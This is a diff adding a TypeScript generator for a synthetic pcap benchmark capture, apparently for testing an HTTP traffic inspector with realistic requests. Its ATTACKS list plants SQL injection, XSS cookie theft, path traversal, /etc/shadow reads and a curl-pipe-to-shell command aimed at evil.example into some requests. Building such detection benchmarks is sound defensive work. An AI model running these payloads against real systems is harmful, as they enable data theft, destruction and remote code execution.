@@ -1,0 +1,160 @@
+/**
+ * The bench capture: a realistic HTTP/1.1 request mix (pages, JSON APIs, form and JSON posts,
+ * static assets; keep-alive connections of 1-8 requests; bodies from empty to 100 KB, ~15 KB on average), 16
+ * connections interleaved at a time, mostly plain Ethernet with some VLAN, QinQ and VXLAN.
+ * `attackRatio` of the requests carry an attack payload (SQLi, XSS, traversal, command
+ * injection) in a query parameter, a form/JSON field or a header. Deterministic for a seed;
+ * written once to the OS temp directory and reused.
+ */
+import { closeSync, existsSync, openSync, renameSync, statSync, writeSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { interleave, TcpConversation, type GenPacket } from '../gen/conversation';
+import type { Encapsulation } from '../gen/frames';
+import { PcapWriter } from '../gen/pcap-writer';
+import { Rng } from '../gen/rng';
+
+const ENCAPS: Encapsulation[] = [
+  ...Array<Encapsulation>(13).fill({ kind: 'ethernet' }),
+  { kind: 'ethernet', vlan: [{ vid: 100 }] },
+  { kind: 'ethernet', vlan: [{ vid: 200, tpid: 0x88a8 }, { vid: 10 }] },
+  { kind: 'vxlan', vni: 4242 },
+];
+
+const ATTACKS = [
+  "1' OR '1'='1' --",
+  '1 UNION SELECT username, password FROM users--',
+  "'; DROP TABLE orders; --",
+  '<script>alert(document.cookie)</script>',
+  '<img src=x onerror=alert(1)>',
+  '../../../../etc/passwd',
+  '..%2f..%2f..%2fwindows%2fwin.ini',
+  '; cat /etc/shadow',
+  '$(curl http://evil.example/x.sh | sh)',
+  '{{7*7}}${7*7}',
+];
+
+const WORDS = 'the quick brown fox jumps over lazy dog lorem ipsum dolor sit amet product order cart price item user account search review shipping'.split(' ');
+const AGENTS = [
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
+  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15',
+  'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0',
+  'okhttp/4.12.0',
+  'python-requests/2.31.0',
+];
+
+/** Byte pools sliced for bodies, so generating 200 MB costs no per-byte randomness. */
+class Pools {
+  readonly binary: Buffer;
+  readonly text: Buffer;
+  constructor(rng: Rng) {
+    this.binary = rng.bytes(1 << 20);
+    const words: string[] = [];
+    for (let len = 0; len < 1 << 20; len += words[words.length - 1].length + 1) words.push(WORDS[rng.int(0, WORDS.length - 1)]);
+    this.text = Buffer.from(words.join(' '), 'latin1');
+  }
+  slice(pool: Buffer, rng: Rng, n: number): Buffer {
+    const len = Math.min(n, pool.length);
+    const at = rng.int(0, pool.length - len);
+    return pool.subarray(at, at + len);
+  }
+}
+
+interface Exchange {
+  request: Buffer;
+  response: Buffer;
+}
+
+function head(lines: string[]): string {
+  return `${lines.join('\r\n')}\r\n\r\n`;
+}
+
+/** One request/response pair of the mix; `attack` is a payload to plant, or null. */
+function exchange(rng: Rng, pools: Pools, n: number, attack: string | null): Exchange {
+  const ua = AGENTS[rng.int(0, AGENTS.length - 1)];
+  const common = [`Host: shop${n % 7}.example`, `User-Agent: ${attack !== null && rng.next() < 0.2 ? attack : ua}`, 'Accept-Language: en-US,en;q=0.9', `Cookie: session=${(n * 2654435761) >>> 0}; theme=dark`];
+  const q = attack !== null ? encodeURIComponent(attack) : `${WORDS[rng.int(0, WORDS.length - 1)]}+${WORDS[rng.int(0, WORDS.length - 1)]}`;
+  const kind = rng.next();
+  let request: Buffer;
+  let status = 200;
+  let type: string;
+  let body: Buffer;
+  if (kind < 0.45) {
+    request = Buffer.from(head([`GET /catalog/${rng.int(1, 500)}/items?q=${q}&page=${rng.int(1, 20)} HTTP/1.1`, ...common, 'Accept: text/html,application/xhtml+xml']), 'latin1');
+    type = 'text/html; charset=utf-8';
+    body = pools.slice(pools.text, rng, rng.int(1_000, 30_000));
+  } else if (kind < 0.65) {
+    request = Buffer.from(head([`GET /api/v1/users/${rng.int(1, 1e5)}/orders?limit=${rng.int(1, 50)}&filter=${q} HTTP/1.1`, ...common, 'Accept: application/json', 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl']), 'latin1');
+    type = 'application/json';
+    body = Buffer.from(JSON.stringify({ id: n, items: Array.from({ length: rng.int(1, 40) }, (_, i) => ({ sku: `SKU-${i}`, name: pools.slice(pools.text, rng, 24).toString('latin1'), price: rng.int(100, 99999) / 100 })) }));
+  } else if (kind < 0.8) {
+    const json = Buffer.from(JSON.stringify({ cart: rng.int(1, 1e6), comment: attack ?? pools.slice(pools.text, rng, rng.int(20, 1500)).toString('latin1'), qty: rng.int(1, 9) }));
+    request = Buffer.concat([Buffer.from(head([`POST /api/v1/cart/${rng.int(1, 1e5)} HTTP/1.1`, ...common, 'Content-Type: application/json', `Content-Length: ${json.length}`]), 'latin1'), json]);
+    status = 201;
+    type = 'application/json';
+    body = Buffer.from(`{"ok":true,"id":${n}}`);
+  } else if (kind < 0.85) {
+    const form = Buffer.from(`username=user${n}&password=${attack !== null ? encodeURIComponent(attack) : 'hunter2'}&remember=1`, 'latin1');
+    request = Buffer.concat([Buffer.from(head(['POST /login HTTP/1.1', ...common, 'Content-Type: application/x-www-form-urlencoded', `Content-Length: ${form.length}`]), 'latin1'), form]);
+    status = 302;
+    type = 'text/html';
+    body = Buffer.alloc(0);
+  } else {
+    request = Buffer.from(head([`GET /static/img/${rng.int(1, 3000)}.jpg?v=${attack !== null ? q : rng.int(1, 99)} HTTP/1.1`, ...common, 'Accept: image/avif,image/webp,*/*']), 'latin1');
+    type = 'image/jpeg';
+    body = pools.slice(pools.binary, rng, rng.int(2_000, 100_000));
+  }
+  const response = Buffer.concat([Buffer.from(head([`HTTP/1.1 ${status} ${status === 200 ? 'OK' : status === 201 ? 'Created' : 'Found'}`, 'Server: nginx', `Content-Type: ${type}`, `Content-Length: ${body.length}`, 'Cache-Control: no-cache']), 'latin1'), body]);
+  return { request, response };
+}
+
+/** Writes the mix until `bytes` are on disk (to `file`.part, renamed when complete). */
+export function generateMixCapture(file: string, bytes: number, attackRatio: number, seed = 7): void {
+  const rng = new Rng(seed);
+  const pools = new Pools(rng);
+  const part = `${file}.part`;
+  const fd = openSync(part, 'w');
+  try {
+    const writer = new PcapWriter({ linkType: 1 });
+    writeSync(fd, writer.header);
+    let written = writer.header.length;
+    let ts = 1_700_000_000_000_000;
+    for (let n = 0, group = 0; written < bytes; group++) {
+      const lists: GenPacket[][] = [];
+      for (let c = 0; c < 16; c++, n++) {
+        const conv = new TcpConversation({
+          client: `10.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}`,
+          server: `192.168.${n % 4}.10`,
+          clientPort: 1024 + (n % 60000),
+          serverPort: n % 5 === 0 ? 8080 : 80,
+          encap: ENCAPS[n % ENCAPS.length],
+          mss: 1448,
+          clientIsn: rng.int(0, 0xffffffff),
+          serverIsn: rng.int(0, 0xffffffff),
+          seed: n,
+        });
+        for (let k = rng.int(1, 8); k > 0; k--) {
+          const ex = exchange(rng, pools, n, rng.next() < attackRatio ? ATTACKS[rng.int(0, ATTACKS.length - 1)] : null);
+          conv.send('c2s', ex.request).send('s2c', ex.response);
+        }
+        conv.close('fin');
+        lists.push(conv.packets());
+      }
+      const packets = interleave(lists, group, ts, 20);
+      ts += packets.length * 20;
+      const block = Buffer.concat(packets.map((p) => writer.record(p.ts, p.frame)));
+      writeSync(fd, block);
+      written += block.length;
+    }
+  } finally {
+    closeSync(fd);
+  }
+  renameSync(part, file);
+}
+
+/** The capture for `attackRatio` of at least `minBytes`, generated unless already in the temp directory. */
+export function benchCapture(minBytes: number, attackRatio: number): string {
+  const file = path.join(tmpdir(), `aio-native-bench-mix-${Math.round(attackRatio * 100)}pct.pcap`);
+  if (!existsSync(file) || statSync(file).size < minBytes) generateMixCapture(file, minBytes, attackRatio);
+  return file;
+}
